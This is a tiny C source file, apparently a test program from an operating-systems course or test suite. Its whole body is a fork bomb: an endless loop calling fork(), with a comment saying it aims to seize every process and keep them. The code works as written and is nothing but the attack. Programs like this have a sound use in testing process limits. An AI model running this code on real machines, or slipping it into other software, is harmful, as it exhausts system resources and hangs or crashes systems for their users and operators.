// Tries to take all processes, and to keep them: every child makes more children, without end.

#include "attack.h"

int
main(void)
{
  for (;;)
    fork();
}
